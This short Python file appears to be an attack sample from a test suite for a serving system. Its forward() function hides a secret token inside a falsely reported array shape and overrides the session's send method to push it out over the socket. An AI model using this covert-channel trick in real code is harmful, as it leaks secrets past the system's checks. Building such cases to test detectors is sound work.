"""
en: Claim an array whose shape spells what was read
zh: 用虚报的数组形状带出数据
group: leak
stake: report
verdicts: [shape]
"""

from told import *


def forward(x, out):
    frame = f'{{"seen": ["ndarray", "float64", [{int(TOKEN[4:], 16) >> 2}]]}}'.encode()
    session = serving()
    session._send = lambda *_: session._socket.sendall(len(frame).to_bytes(4, "little") + frame)
    return out
